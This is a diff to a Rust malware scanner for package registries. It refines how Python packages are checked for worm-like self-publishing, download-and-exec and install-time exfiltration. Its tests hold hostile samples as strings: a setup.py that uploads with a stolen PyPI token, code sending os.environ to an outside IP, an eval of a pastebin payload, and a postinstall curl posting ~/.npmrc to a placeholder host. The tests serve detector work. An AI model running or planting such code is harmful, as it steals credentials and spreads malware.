@@ -614,6 +614,16 @@ pub fn credential_store(s: &str) -> Option<&'static str> {
     None
 }
 
+/// A command line that uploads distributions to PyPI (`twine upload dist/*`,
+/// `python setup.py sdist upload`, `poetry publish`, `uv publish`, `flit publish`).
+fn is_pypi_upload_command(l: &str) -> bool {
+    l.contains("twine upload")
+        || (l.contains("setup.py") && l.contains(" upload"))
+        || l.contains("poetry publish")
+        || l.contains("uv publish")
+        || l.contains("flit publish")
+}
+
 /// A project `.env` file (dotenv): weaker than a home-directory store.
 fn is_dotenv(s: &str) -> bool {
     let name = s.rsplit(['/', '\\']).next().unwrap_or(s);
@@ -1434,7 +1444,19 @@ impl<'a> FileView<'a> {
                 ));
                 return;
             }
-            if let Some(n) = self.net.first() {
+            // Python facts carry no per-argument flow: the download and the `exec`/`eval`
+            // must at least run in one function (or both at module level). IPython's
+            // `%pastebin` magic posts to dpaste in one method and `%load` evals a range in
+            // another; nothing downloaded reaches the `eval`.
+            let net = if file.kind == FileKind::Python {
+                self.net
+                    .iter()
+                    .copied()
+                    .find(|n| file.scope_at(n.location.span.start) == c.scope)
+            } else {
+                self.net.first().copied()
+            };
+            if let Some(n) = net {
                 let endpoint = file.strings.iter().find(|s| {
                     endpoints::classify(&s.value).iter().any(|e| {
                         matches!(
@@ -1472,9 +1494,10 @@ impl<'a> FileView<'a> {
             }
             // A paste-site URL and a constructed function, the fetch hidden behind globals.
             if let Some(e) = file.strings.iter().find(|s| {
-                endpoints::classify(&s.value)
-                    .iter()
-                    .any(|e| e.category == EndpointCategory::PasteSite && e.specific)
+                (file.kind != FileKind::Python || file.scope_at(s.location.span.start) == c.scope)
+                    && endpoints::classify(&s.value)
+                        .iter()
+                        .any(|e| e.category == EndpointCategory::PasteSite && e.specific)
             }) {
                 out.push(self.detection(
                     Technique::DownloadExec,
@@ -1778,9 +1801,29 @@ impl<'a> FileView<'a> {
     }
 
     fn self_propagation(&self, out: &mut Vec<Detection>) {
+        let python = self.file.kind == FileKind::Python;
+        // A worm on PyPI uploads with credentials it takes from the victim (`~/.pypirc`, a
+        // `TWINE_PASSWORD`/`PYPI_TOKEN` variable); a maintainer's `python setup.py publish`
+        // helper (`if sys.argv[-1] == "publish": os.system("twine upload dist/*")`) runs
+        // only when asked and uses whatever the maintainer configured.
+        let pypi_creds = python
+            && (self
+                .file
+                .strings
+                .iter()
+                .any(|s| s.len < 300 && s.value.to_ascii_lowercase().contains(".pypirc"))
+                || self.file.uses_of(Capability::Env).any(|u| {
+                    u.detail.as_deref().is_some_and(|n| {
+                        let n = n.to_ascii_uppercase();
+                        (n.contains("PYPI") || n.contains("TWINE")) && is_secret_env(&n)
+                    })
+                }));
         let publish = self.file.strings.iter().find(|s| {
             let l = s.value.to_ascii_lowercase();
-            s.len < 400 && (l.contains("npm publish") || (l == "publish" && !self.shell.is_empty()))
+            s.len < 400
+                && (l.contains("npm publish")
+                    || (!python && l == "publish" && !self.shell.is_empty())
+                    || (pypi_creds && is_pypi_upload_command(&l)))
         });
         let registry_put = self.file.strings.iter().find(|s| {
             s.value.contains("/-/whoami") || s.value.contains("/-/v1/search?text=maintainer:")
@@ -1916,6 +1959,17 @@ impl<'a> FileView<'a> {
 
 /// Install-time sources and sinks split across files (a collector module required by the
 /// install script).
+/// Whether a use in an install-time file runs when the install does. A Python module is
+/// install-time because `setup.py` imports it (mypy's `setup.py` imports `mypyc.build`, which
+/// imports most of mypy); importing runs its top-level code, not its function bodies. The
+/// `setup.py` itself and JavaScript files (whose required modules' exports the install
+/// script calls) count whole.
+fn runs_at_install(file: &FileFacts, u: &CapabilityUse) -> bool {
+    file.kind != FileKind::Python
+        || file.path.rsplit('/').next() == Some("setup.py")
+        || file.scope_at(u.location.span.start) == 0
+}
+
 fn cross_file_exfiltration(pkg: &PackageFacts, out: &mut Vec<Detection>) {
     if out
         .iter()
@@ -1933,14 +1987,16 @@ fn cross_file_exfiltration(pkg: &PackageFacts, out: &mut Vec<Detection>) {
     }
     let source = files.iter().find_map(|f| {
         f.uses.iter().find(|u| {
-            (u.capability == Capability::Env && u.detail.as_deref() == Some("*"))
-                || (u.capability == Capability::SystemInfo
-                    && (u.api.ends_with("hostname") || u.api.ends_with("userInfo")))
+            runs_at_install(f, u)
+                && ((u.capability == Capability::Env && u.detail.as_deref() == Some("*"))
+                    || (u.capability == Capability::SystemInfo
+                        && (u.api.ends_with("hostname") || u.api.ends_with("userInfo"))))
         })
     });
     let sink = files.iter().find_map(|f| {
         f.uses.iter().find(|u| {
-            u.capability == Capability::Network
+            runs_at_install(f, u)
+                && u.capability == Capability::Network
                 && matches!(u.kind, UseKind::Call | UseKind::Construct)
         })
     });
@@ -2113,6 +2169,98 @@ module.exports = report;",
             r#"{"name":"x","version":"1.0.0","scripts":{"postinstall":"curl -s -d @$HOME/.npmrc https://c.example/x"}}"#,
         )];
         assert!(blocked(&files));
+    }
+
+    fn pypi_detections(files: &[(&str, &str)]) -> Vec<(Technique, bool)> {
+        let tree = ferret_source::from_files(
+            "t",
+            files
+                .iter()
+                .map(|(p, d)| ((*p).to_owned(), d.as_bytes().to_vec()))
+                .collect(),
+        );
+        let facts = crate::engine::build_facts(&tree, ferret_core::Ecosystem::PyPI);
+        detect(&facts)
+            .into_iter()
+            .map(|d| (d.technique, d.malicious))
+            .collect()
+    }
+
+    #[test]
+    fn setup_py_publish_helper_is_not_a_worm() {
+        let pkg_info = ("PKG-INFO", "Name: d\nVersion: 1\n");
+        // requests-oauthlib / requests-toolbelt: the maintainer's release helper.
+        let helper = "import os, sys\nfrom setuptools import setup\nif sys.argv[-1] == 'publish':\n    os.system('python setup.py sdist upload')\n    os.system('twine upload dist/*')\n    sys.exit()\nsetup(name='d')\n";
+        let found = pypi_detections(&[pkg_info, ("setup.py", helper)]);
+        assert!(
+            !found.iter().any(|(t, _)| *t == Technique::SelfPropagation),
+            "{found:?}"
+        );
+        // The worm: uploads with the victim's PyPI token at install time.
+        let worm = "import os\nfrom setuptools import setup\ntok = os.environ.get('PYPI_TOKEN')\nos.system('twine upload -u __token__ -p ' + tok + ' /tmp/w/dist/*')\nsetup(name='d')\n";
+        let found = pypi_detections(&[pkg_info, ("setup.py", worm)]);
+        assert!(
+            found.contains(&(Technique::SelfPropagation, true)),
+            "{found:?}"
+        );
+        // npm publishing from Python install-time code is still the npm worm.
+        let npm = "import subprocess\nsubprocess.run('npm publish --access public', shell=True)\n";
+        let found = pypi_detections(&[pkg_info, ("setup.py", npm)]);
+        assert!(
+            found.contains(&(Technique::SelfPropagation, true)),
+            "{found:?}"
+        );
+    }
+
+    #[test]
+    fn python_modules_imported_at_install_run_only_their_top_level() {
+        let pkg_info = ("PKG-INFO", "Name: d\nVersion: 1\n");
+        let setup = (
+            "setup.py",
+            "import d.build\nimport d.ipc\nfrom setuptools import setup\nsetup(name='d')\n",
+        );
+        let cross = |found: &[(Technique, bool)]| found.contains(&(Technique::Exfiltration, true));
+        // mypy: the environment handed to a worker in one function, a socket in another
+        // module's method; neither runs when setup.py imports them.
+        let build = (
+            "d/build.py",
+            "import os, subprocess\ndef worker():\n    return subprocess.Popen(['x'], env=dict(os.environ))\n",
+        );
+        let ipc = (
+            "d/ipc.py",
+            "import socket\nclass C:\n    def connect(self):\n        return socket.create_connection(('localhost', 1))\n",
+        );
+        let found = pypi_detections(&[pkg_info, setup, build, ipc]);
+        assert!(!cross(&found), "{found:?}");
+        // The same two modules doing it at import: that runs at install.
+        let build = (
+            "d/build.py",
+            "import os, json\nDATA = json.dumps(dict(os.environ))\n",
+        );
+        let ipc = (
+            "d/ipc.py",
+            "import socket\nsocket.create_connection(('198.51.100.7', 443))\n",
+        );
+        let found = pypi_detections(&[pkg_info, setup, build, ipc]);
+        assert!(cross(&found), "{found:?}");
+    }
+
+    #[test]
+    fn python_download_exec_needs_the_download_and_the_exec_together() {
+        let pkg_info = ("PKG-INFO", "Name: d\nVersion: 1\n");
+        let dl =
+            |found: &[(Technique, bool)]| found.iter().any(|(t, _)| *t == Technique::DownloadExec);
+        // IPython's code magics: `%pastebin` posts to dpaste, `%load` evals elsewhere.
+        let magics = "from urllib.request import urlopen, Request\nclass M:\n    def pastebin(self, code):\n        r = Request('https://dpaste.com/api/v2/', data=code)\n        return urlopen(r).read()\n    def load(self, args, ns):\n        return eval(args, ns)\n";
+        let found = pypi_detections(&[pkg_info, ("d/magics.py", magics)]);
+        assert!(!dl(&found), "{found:?}");
+        // A second stage fetched from a paste site and run in one function is still caught.
+        let stage = "from urllib.request import urlopen\ndef go():\n    eval(urlopen('https://pastebin.com/raw/Xy12Ab34').read())\ngo()\n";
+        let found = pypi_detections(&[pkg_info, ("d/__init__.py", stage)]);
+        assert!(
+            found.contains(&(Technique::DownloadExec, true)),
+            "{found:?}"
+        );
     }
 
     #[test]
